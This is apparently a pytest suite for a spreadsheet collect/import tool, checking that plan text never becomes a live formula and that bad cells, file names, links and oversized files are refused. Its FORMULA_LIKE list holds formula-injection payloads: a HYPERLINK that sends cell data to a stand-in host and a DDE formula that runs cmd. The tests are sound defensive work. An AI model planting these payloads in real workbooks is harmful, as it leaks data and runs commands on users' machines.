"""Issue 25, parts 2 and 4: what collect writes stays data, and import reads only what the sheet shows."""

from __future__ import annotations

from pathlib import Path

import pytest
from openpyxl import load_workbook

from .test_sheets import BOOKS, PROJECTS, invoke, office, write_plan

__all__ = ["office"]  # the fixture, shared with the round-trip tests

FORMULA_LIKE = ['=HYPERLINK("http://x?d="&A1,"x")', "=cmd|' /C calc'!A0", "+1", "-1", "@SUM(1)", "#N/A", "_x000D_"]


def _project_with(name: str, department: str = "가과", project: str = "1-1-1") -> dict[str, str]:
    text = PROJECTS[project].replace("{ko: 방문 수, en: Visits}", "{ko: " + _quoted(name) + ", en: Visits}")
    return {**PROJECTS, project: text.replace("{ko: 가과, en: Division A}", "{ko: " + _quoted(department) + ", en: A}")}


def _quoted(text: str) -> str:
    return '"' + text.replace("\\", "\\\\").replace('"', '\\"') + '"'


def _collect(tmp_path: Path, projects: dict[str, str], *more: str):  # type: ignore[no-untyped-def]
    write_plan(tmp_path, projects)
    return invoke("collect", "sheets", "2024", *more)


@pytest.mark.parametrize("text", FORMULA_LIKE)
def test_plan_text_that_looks_like_a_formula_is_written_as_text_and_read_back_exactly(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, text: str
) -> None:
    monkeypatch.chdir(tmp_path)
    result = _collect(tmp_path, _project_with(text), "--deadline", text)
    assert result.exit_code == 0, result.output
    for data_only in (False, True):
        book = load_workbook(BOOKS / "가과.xlsx", data_only=data_only)
        name, deadline = book["성과지표"]["F3"], book["안내"]["B4"]
        assert (name.value.replace("_x005F_", "_"), name.data_type) == (text, "s")  # the sheet's escaped "_"
        assert (deadline.value.replace("_x005F_", "_"), deadline.data_type) == (text, "s")
    raw = (BOOKS / "가과.xlsx").read_bytes()
    assert b"<f>" not in raw  # no formula anywhere in the file


@pytest.mark.parametrize(
    ("first", "second", "message"),
    [
        ("안전:지원과", "안전/지원과", "would share one workbook (안전_지원과.xlsx"),
        ("Team", "team", "would share one workbook"),
        ("index", "나과", "would share one workbook (index.xlsx"),
    ],
)
def test_departments_sharing_a_file_name_are_refused_before_anything_is_written(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, first: str, second: str, message: str
) -> None:
    monkeypatch.chdir(tmp_path)
    projects = _project_with("방문 수", first)
    projects["1-1-2"] = projects["1-1-2"].replace("{ko: 나과, en: Division B}", "{ko: " + _quoted(second) + ", en: B}")
    result = _collect(tmp_path, projects)
    assert result.exit_code != 0 and message in result.output, result.output
    assert not Path("workbooks").exists()


@pytest.mark.parametrize(
    ("department", "message"),
    [("...", "gives no visible file name"), ("가" * 80, "too long for a file name"), ("NUL", "a device name")],
)
def test_a_hidden_long_or_device_file_name_is_refused_before_anything_is_written(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, department: str, message: str
) -> None:
    monkeypatch.chdir(tmp_path)
    result = _collect(tmp_path, _project_with("방문 수", department))
    assert result.exit_code != 0 and message in result.output, result.output
    assert "Traceback" not in result.output and not Path("workbooks").exists()


@pytest.mark.parametrize("out", ["plans/sheets/books", "results", "plans"])
def test_out_inside_the_data_folders_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, out: str) -> None:
    monkeypatch.chdir(tmp_path)
    write_plan(tmp_path)
    before = sorted(str(p) for p in tmp_path.rglob("*"))
    result = invoke("collect", "sheets", "2024", "--out", out)
    assert result.exit_code != 0 and "workbooks are not written inside a data folder" in result.output
    assert sorted(str(p) for p in tmp_path.rglob("*")) == before


def test_collect_writes_all_workbooks_or_none(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "books").mkdir()
    (tmp_path / "books" / "나과.xlsx").write_bytes(b"filled in")  # the second workbook is taken
    result = _collect(tmp_path, PROJECTS, "--out", "books")
    assert result.exit_code != 0 and "exists, so nothing was written" in result.output
    assert sorted(p.name for p in (tmp_path / "books").iterdir()) == ["나과.xlsx"]
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []  # no staging left behind
    (tmp_path / "books" / "나과.xlsx").unlink()
    assert invoke("collect", "sheets", "2024", "--out", "books").exit_code == 0
    assert sorted(p.name for p in (tmp_path / "books").iterdir()) == ["index.xlsx", "가과.xlsx", "나과.xlsx"]


# Part 2: cells mean what the sheet shows.


def _import(*paths: Path | str):  # type: ignore[no-untyped-def]
    return invoke("import", "sheets", "2024", *map(str, paths))


def _refused(path: Path | str, *expected: str) -> None:
    before = {p: p.read_bytes() for p in Path("results").rglob("*.yaml")}
    result = _import(path)
    assert result.exit_code == 1, result.output
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(result.exception)
    for text in expected:
        assert text in result.output, result.output
    assert {p: p.read_bytes() for p in Path("results").rglob("*.yaml")} == before


def _raw_cell(name: str, coordinate: str, xml: str) -> Path:
    """A copy of a collected workbook whose `coordinate` on the indicator sheet is the raw XML `xml` (what openpyxl
    would not write: a 400-digit number, an array formula without its value, a text with escapes)."""
    import zipfile

    path = Path(name)
    book = load_workbook(BOOKS / "가과.xlsx")
    book["성과지표"][coordinate] = "PLACEHOLDER"
    book.save(path)
    with zipfile.ZipFile(path) as archive:
        parts = {info.filename: archive.read(info) for info in archive.infolist()}
    sheet = next(part for part, data in parts.items() if b"PLACEHOLDER" in data)
    data = parts[sheet].decode()
    start = data.index(f'<c r="{coordinate}"')
    end = data.index("</c>", start) + len("</c>")
    style = data[start:end].split('s="')[1].split('"')[0]
    parts[sheet] = (data[:start] + f'<c r="{coordinate}" s="{style}"{xml}' + data[end:]).encode()
    with zipfile.ZipFile(path, "w") as archive:
        for part, content in parts.items():
            archive.writestr(part, content)
    return path


@pytest.mark.usefixtures("office")
@pytest.mark.parametrize(
    ("xml", "expected"),
    [
        ("><v>" + "9" * 400 + "</v></c>", "I3: the number 999999999999… (400 digits) is too large"),
        ("><v>1e400</v></c>", "I3: the number inf is too large"),
        ("><v>9007199254740993</v></c>", "I3: the number 9007199254740993 is too large"),
        (' t="str"><v>' + "9" * 400 + "</v></c>", "I3: the number 999999999999… (400 digits) is too large"),
        (' t="e"><v>#N/A</v></c>', "I3: the cell holds an error value: #N/A"),
        (' t="b"><v>1</v></c>', "I3: the cell holds a truth value: TRUE"),
        ('><f t="array" ref="I3">SUM(1)</f></c>', "I3: the cell holds a formula whose value was not saved"),
        ("><f>SUM(1)</f><v></v></c>", "I3: the cell holds a formula whose value was not saved"),
    ],
)
def test_a_figure_cell_is_read_as_the_sheet_shows_it_or_refused_naming_its_cell(xml: str, expected: str) -> None:
    _refused(_raw_cell("raw.xlsx", "I3", xml), "raw.xlsx:성과지표!" + expected)


@pytest.mark.usefixtures("office")
@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (
            "１２００",
            "digits of another script (full-width or the like): '１２００' — write it in the digits 0-9: 1200",
        ),
        ("١٢٠٠", "digits of another script (full-width or the like): '١٢٠٠' — write it in the digits 0-9: 1200"),
        ("1２0０", "digits of another script (full-width or the like): '1２0０' — write it in the digits 0-9: 1200"),
        ("12" * 20, "the number 121212121212… (40 digits) is too large"),
    ],
)
def test_figures_typed_as_text_are_plain_ascii_decimals(value: str, expected: str) -> None:
    path = Path("typed.xlsx")
    book = load_workbook(BOOKS / "가과.xlsx")
    book["성과지표"]["I3"] = value
    book.save(path)
    _refused(path, "typed.xlsx:성과지표!I3: " + expected)


@pytest.mark.usefixtures("office")
@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("#N/A", "M3: the cell holds an error value: #N/A"),
        (True, "M3: the cell holds a truth value: TRUE"),
        ("DATE", "M3: the cell holds a date or time: 2024-03-01 00:00:00"),
        ("a_x001B_b", "M3: "),
        ("a_x0000_b", "M3: "),
    ],
)
def test_a_text_cell_holding_an_error_truth_value_date_or_control_character_is_refused(
    value: object, expected: str
) -> None:
    import datetime

    path = Path("text.xlsx")
    book = load_workbook(BOOKS / "가과.xlsx")
    book["성과지표"]["M3"] = datetime.datetime(2024, 3, 1) if value == "DATE" else value
    book.save(path)
    _refused(path, "text.xlsx:성과지표!" + expected)


@pytest.mark.usefixtures("office")
def test_the_sheet_s_escapes_are_decoded() -> None:
    path = Path("escaped.xlsx")
    book = load_workbook(BOOKS / "가과.xlsx")
    book["성과지표"]["M3"] = "첫 줄_x000D_\n둘째 줄 _x005F_x0041_"
    book.save(path)
    result = _import(path)
    assert result.exit_code == 0, result.output
    text = Path("results/sheets/2024/projects/1-1-1.yaml").read_text(encoding="utf-8")
    import yaml

    narrative = yaml.safe_load(text)["indicators"][0]["narrative"]
    assert narrative == {"ko": "첫 줄\n둘째 줄 _x0041_"}


@pytest.mark.usefixtures("office")
def test_formula_like_plan_text_survives_collect_and_import_unchanged() -> None:
    path = Path("formulas.xlsx")
    book = load_workbook(BOOKS / "가과.xlsx")
    book["성과지표"]["M3"] = "=1+1"  # typed by a department as a formula: openpyxl stores it without a value
    book.save(path)
    _refused(path, "M3: the cell holds a formula whose value was not saved")


@pytest.mark.usefixtures("office")
def test_chart_sheets_where_a_worksheet_is_expected_or_added_give_no_traceback() -> None:
    from openpyxl.chart import BarChart, Reference

    for name, change in (
        ("meta.xlsx", lambda book: (book.remove(book["plansite"]), book.create_chartsheet("plansite"))),
        ("rows.xlsx", lambda book: (book.remove(book["성과지표"]), book.create_chartsheet("성과지표", 1))),
        ("extra.xlsx", lambda book: book.create_chartsheet("차트")),
    ):
        book = load_workbook(BOOKS / "가과.xlsx")
        change(book)
        book.save(name)
        _refused(name, f"{name}:1:1: a part of this workbook cannot be read (AttributeError)")
    # With a chart in it, openpyxl reads a chart sheet: it is named, not taken for the sheet of cells.
    for name, title, message in (
        ("meta2.xlsx", "plansite", "this workbook was not written by plansite collect"),
        ("rows2.xlsx", "성과지표", "the sheet (성과지표) is not a sheet of cells"),
    ):
        book = load_workbook(BOOKS / "가과.xlsx")
        index = book.sheetnames.index(title)
        book.remove(book[title])
        chart = BarChart()
        chart.add_data(Reference(book["예산집행"], min_col=5, min_row=3, max_row=3))
        book.create_chartsheet(title, index).add_chart(chart)
        book.save(name)
        _refused(name, message)


@pytest.mark.usefixtures("office")
def test_only_a_regular_file_of_a_sane_size_is_read() -> None:
    import os

    os.mkfifo("pipe.xlsx")
    _refused("pipe.xlsx", "pipe.xlsx:1:1: this is not a regular file")
    _refused("/dev/zero", "this is not a regular file")
    Path("zero.xlsx").symlink_to("/dev/zero")
    _refused("zero.xlsx", "zero.xlsx:1:1: this is a link, so it was not read")
    Path("copy.xlsx").symlink_to((BOOKS / "가과.xlsx").resolve())
    _refused("copy.xlsx", "this is a link, so it was not read")
    with open("big.xlsx", "wb") as file:
        file.truncate(21 * 1024 * 1024)
    _refused("big.xlsx", "larger than 20 MiB")
